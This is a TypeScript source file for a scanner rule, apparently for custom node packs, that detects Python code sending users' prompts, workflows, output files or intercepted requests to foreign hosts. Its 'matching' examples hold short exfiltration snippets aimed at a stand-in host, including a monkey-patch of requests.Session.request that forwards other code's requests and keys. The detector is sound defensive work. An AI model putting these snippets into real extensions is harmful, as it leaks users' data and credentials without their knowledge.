import type { Hit } from '../../ground/finding.ts'
import { type CodeFacts, isProgramStart } from '../flow/code-facts.ts'
import type { Call } from '../flow/flow.ts'
import { isModelHost } from '../flow/hosts.ts'
import { isWholeFolder } from '../flow/tool-places.ts'
import { fullTexts, has, type Value } from '../flow/values.ts'
import { isSending, sentValues } from './reach.ts'
import { isUnderOne, receiverHosts, toolServices } from './receivers.ts'
import type { CodeRule } from './rule.ts'

/** The values of a call without its address. */
function contentsOf(call: Call): Value[] {
  const { receiver, args, keywords } = call
  return [
    receiver,
    ...(isProgramStart(call) ? args : args.slice(1)),
    ...[...keywords].flatMap(([name, value]) => (name === 'url' ? [] : [value])),
  ]
}

/** Whether a client of a storage service sends a folder of the user's files to a place that the source names. */
function uploadsFolder(call: Call): boolean {
  if (
    !/(^|\.)(upload_(folder|large_folder|file|fileobj|directory)|put_object|create_commit)$/.test(call.name)
  )
    return false
  const target = call.keywords.get('repo_id') ?? call.keywords.get('Bucket') ?? call.args[0]
  const isBuiltIn = target?.isOpen === false && fullTexts(target).length > 0
  const isOfUser = (value: Value) =>
    value.texts.some(isWholeFolder) || has(value, 'kept', 'private', 'keptFolder')
  return isBuiltIn && sentValues(call).some(isOfUser)
}

/** Paths of the tool’s server to which scripts of the pack send what is private. */
export function privateRoutes(facts: readonly CodeFacts[]): ReadonlySet<string> {
  const posts = facts.flatMap(({ calls }) => calls.filter(({ name }) => /(^|\.)fetch(Api)?$/.test(name)))
  return new Set(
    posts.flatMap(({ args: [path, ...rest] }) =>
      rest.some((value) => has(value, 'private', 'storage', 'spying'))
        ? (path?.texts ?? [])
            .filter((text) => text.startsWith('/'))
            .map((text) => text.replace(/^\/api(?=\/)/, ''))
        : [],
    ),
  )
}

/** Data that scripts of the pack send to its own route stays private there. */
export function* forwardedHits(facts: CodeFacts, routes: ReadonlySet<string>): Generator<Hit> {
  const takes = ({ args: [path] }: Call) => path?.texts.some((text) => routes.has(text)) === true
  if (routes.size === 0 || !facts.calls.some(takes)) return
  // Among several routes, another one may get the data that is sent.
  const isSure = facts.calls.filter(({ name }) => addsRoute.test(name)).length <= mostSureRoutes
  for (const call of facts.calls) {
    if (!isSending(call) || !receiverHosts(call, facts).some(isForeign)) continue
    if (sentValues(call).some((value) => has(value, 'request')))
      yield {
        line: call.line,
        message: 'Sends the user’s prompts, workflows or settings away.',
        ...(isSure ? {} : { severity: 'medium' as const }),
      }
  }
}

const addsRoute = /(^|\.)routes\.(get|post|put|patch|delete|view)$/
const mostSureRoutes = 3

const isForeign = (host: string) => !isUnderOne(host, toolServices) && !isModelHost(`https://${host}`)

export const privateSent: CodeRule = {
  of: 'python',
  id: 'private-data-sent',
  severity: 'high',
  why: 'Prompts, workflows, settings and results belong to the user, and may hold keys of other packs.',
  fix: 'Send only what the user sends with a node, to a service that the user has chosen.',
  examples: {
    matching: [
      'import requests\nfrom server import PromptServer\ndef on_prompt(data):\n    requests.post("https://example.test/p", json=data)\n    return data\nPromptServer.instance.add_on_prompt_handler(on_prompt)',
      'import requests\nclass A:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"hidden": {"prompt": "PROMPT"}}\n    def run(self, prompt=None):\n        requests.post("https://example.test/w", json=prompt)',
      'import os, requests, folder_paths\nout = folder_paths.get_output_directory()\nfor name in os.listdir(out):\n    requests.post("https://example.test/u", files={"f": open(os.path.join(out, name), "rb")})',
      'import requests, urllib.request\nold = requests.Session.request\ndef request(self, method, url, **kw):\n    urllib.request.urlopen("https://example.test", data=str(kw).encode())\n    return old(self, method, url, **kw)\nrequests.Session.request = request',
    ],
    harmless: [
      'import requests\nclass A:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"required": {"text": ("STRING",)}, "hidden": {"prompt": "PROMPT"}}\n    def run(self, text, prompt=None):\n        requests.post("https://example.test/w", json=text)',
      'import requests\nold = requests.Session.request\ndef request(self, method, url, **kw):\n    kw.setdefault("timeout", 30)\n    return old(self, method, url, **kw)\nrequests.Session.request = request',
      'import os, folder_paths\nprint(os.listdir(folder_paths.get_output_directory()))',
    ],
  },
  *find(facts) {
    for (const call of facts.calls) {
      if (uploadsFolder(call))
        yield { line: call.line, message: 'Uploads a folder of the user to an account that is built in.' }
      if (!isSending(call) && !/^requests\.Session\.(send|request)$/.test(call.name)) continue
      if (!receiverHosts(call, facts).some(isForeign)) continue
      const values = sentValues(call)
      if (values.some((value) => has(value, 'private')))
        yield { line: call.line, message: 'Sends the user’s prompts, workflows or settings away.' }
      else if (values.some((value) => has(value, 'captured')))
        yield { line: call.line, message: 'Sends away the requests of other code, with their keys.' }
      else if (
        contentsOf(call).some((value) => has(value, 'kept') && (isProgramStart(call) || has(value, 'file')))
      )
        yield { line: call.line, message: 'Sends away the files of the user that it finds.' }
    }
  },
}
